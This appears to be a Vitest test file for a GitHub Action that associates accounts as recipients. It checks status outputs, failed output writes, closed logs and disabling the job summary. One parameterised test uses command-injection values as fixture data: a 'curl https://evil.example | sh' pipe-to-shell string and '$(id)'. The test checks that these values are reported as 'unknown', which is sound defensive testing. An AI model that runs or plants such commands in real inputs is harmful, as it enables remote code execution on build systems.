import { describe, expect, it } from 'vitest';
import { expectSuccess } from './expectations.ts';
import {
  activeRecords,
  bodyOf,
  RECORD,
  respondWith,
  runScenario,
  runWithFault,
  shown,
  startScenario,
} from './scenario.ts';

// That of several accounts is in report/outputs.test.ts.
describe('the status in the outputs', () => {
  it.concurrent.each<[string, Record<string, string>]>([
    ['validating', { timeout: '10s' }],
    ['associated; curl https://evil.example | sh', { wait: 'false' }],
    ['$(id)', { 'dry-run': 'true' }],
    ['mixed', { state: 'absent', timeout: '10s' }],
  ])(
    'is unknown for a word that is not published: %j, %j',
    async (status, inputs) => {
      const list = bodyOf([shown({ association_status: status })]);
      const run = await runWithFault(respondWith(list), { inputs });
      expect(run.outputs).toMatchObject({
        status: 'unknown',
        'recipient-id': RECORD,
      });
      expect(run.recipients.map((recipient) => recipient['status'])).toEqual([
        'unknown',
      ]);
    },
  );
});

it.concurrent('outputs that cannot be written fail the step, after everything else was done', async () => {
  const run = await runScenario({ env: { GITHUB_OUTPUT: '/nowhere/output' } });
  expect(run).toMatchObject({ exitCode: 1, signal: null, stderr: '' });
  expect(run.errors).toMatchObject([
    {
      title: 'Outputs could not be written',
      message: expect.stringMatching(/recipient-id.*\/nowhere\/output/),
    },
  ]);
  expect(activeRecords(run)).toMatchObject([
    { association_status: 'associated' },
  ]);
  expect(run.summary).toContain('1 account added');
});

it.concurrent('a log that nobody reads any more does not end the run', async () => {
  const started = await startScenario({
    timeline: { associateReads: 1 },
    onOutput: (text) => {
      if (text.includes('added as recipient')) started.child.stdout?.destroy();
    },
  });
  const run = await started.finished;
  expectSuccess(run, { status: 'associated', changed: 'true' });
  expect(run.signal).toBeNull();
  expect(run.summary).toContain('1 account added');
});

it.concurrent('summary: false writes no job summary', async () => {
  const run = await runScenario({ inputs: { summary: 'false' } });
  expectSuccess(run);
  expect(run.summary).toBe('');
});
